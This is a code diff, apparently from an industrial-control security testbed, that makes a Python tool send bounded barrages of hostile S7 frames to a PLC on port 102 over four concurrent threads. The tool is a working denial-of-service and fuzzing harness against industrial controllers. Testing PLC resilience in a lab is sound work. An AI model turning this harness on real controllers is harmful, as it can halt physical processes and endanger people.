@@ -6,7 +6,8 @@ Run inside the attacker host::
         [--port 102] [--frames 10000] [--rate-fps 2000] [--max-s 30] [--seed 1]
 
 Each exchange (:mod:`attacks.s7_frames`) is one TCP connection: its frames are sent in
-order, whatever comes back is read briefly, then the connection is closed. Bounded by
+order, whatever comes back is read briefly, then the connection is closed; four threads
+send exchanges at once. Bounded by
 ``--frames`` (count) and ``--max-s`` (time), paced at ``--rate-fps``. The library part
 (:func:`run_barrage`) does no namespace check, so the loopback unit test drives it directly.
 Whether the PLC survived is not the attacker's to see: the HMI's availability and the PLC's
@@ -16,9 +17,11 @@ own log say it.
 from __future__ import annotations
 
 import argparse
+import contextlib
 import logging
 import random
 import socket
+import threading
 import time
 from collections.abc import Sequence
 from dataclasses import asdict, dataclass, field
@@ -34,7 +37,8 @@ log = logging.getLogger(__name__)
 MAX_FRAMES = 100_000
 MAX_RATE_FPS = 5000.0
 MAX_DURATION_S = 300.0
-REPLY_WAIT_S = 0.002  # a glance at the reply; the PLC is judged by its HMI, not here
+REPLY_WAIT_S = 0.002
+WORKERS = 4
 
 
 @dataclass
@@ -50,41 +54,63 @@ class S7BarrageStats:
     duration_s: float = 0.0
 
 
-def _exchange(host: str, port: int, frames: list[bytes], stats: S7BarrageStats) -> None:
+def _exchange(host: str, port: int, frames: list[bytes]) -> tuple[bool, int, int]:
+    """Send one exchange on a new connection: (connected, frames sent, reply bytes)."""
     try:
         sock = socket.create_connection((host, port), timeout=1.0)
     except OSError:
-        stats.connect_failures += 1
-        return
-    stats.connections += 1
+        return False, 0, 0
+    sent = received = 0
     try:
-        sock.settimeout(REPLY_WAIT_S)
         for frame in frames:
             sock.sendall(frame)
-            stats.frames += 1
-            try:
-                stats.reply_bytes += len(sock.recv(4096))
-            except OSError:
-                pass
+            sent += 1
+        sock.settimeout(REPLY_WAIT_S)  # a glance at the reply; the PLC is judged by its HMI
+        with contextlib.suppress(OSError):
+            received = len(sock.recv(4096))
     except OSError:
         pass
     finally:
         sock.close()
+    return True, sent, received
 
 
 def run_barrage(host: str, port: int, frames: int, rate_fps: float, max_s: float,
-                seed: int = 1, stats: S7BarrageStats | None = None) -> S7BarrageStats:
-    """Send at least ``frames`` frames (whole exchanges) or stop at ``max_s``."""
+                seed: int = 1, stats: S7BarrageStats | None = None,
+                workers: int = WORKERS) -> S7BarrageStats:
+    """Send at least ``frames`` frames (whole exchanges) or stop at ``max_s``.
+
+    ``workers`` threads each open their own connections; the exchanges they send are
+    drawn from one seeded generator, so a seed gives the same multiset of frames.
+    """
     stats = stats or S7BarrageStats()
     rng = random.Random(seed)
+    lock = threading.Lock()
     start = time.monotonic()
-    while stats.frames < frames and time.monotonic() - start < max_s:
-        kind, exchange = hostile_exchange(rng)
-        stats.kinds[kind] = stats.kinds.get(kind, 0) + len(exchange)
-        _exchange(host, port, exchange, stats)
-        ahead_s = stats.frames / rate_fps - (time.monotonic() - start)
-        if ahead_s > 0:
-            time.sleep(ahead_s)
+
+    def work() -> None:
+        while True:
+            with lock:
+                if stats.frames >= frames or time.monotonic() - start >= max_s:
+                    return
+                kind, exchange = hostile_exchange(rng)
+                stats.kinds[kind] = stats.kinds.get(kind, 0) + len(exchange)
+                stats.frames += len(exchange)  # reserved now, so workers stop at the bound
+                ahead_s = stats.frames / rate_fps - (time.monotonic() - start)
+            if ahead_s > 0:
+                time.sleep(ahead_s)
+            connected, sent, received = _exchange(host, port, exchange)
+            with lock:
+                stats.frames -= len(exchange) - sent
+                stats.connections += connected
+                stats.connect_failures += not connected
+                stats.reply_bytes += received
+
+    threads = [threading.Thread(target=work, daemon=True) for _ in range(max(1, workers))]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
     stats.duration_s = round(time.monotonic() - start, 3)
     return stats
 
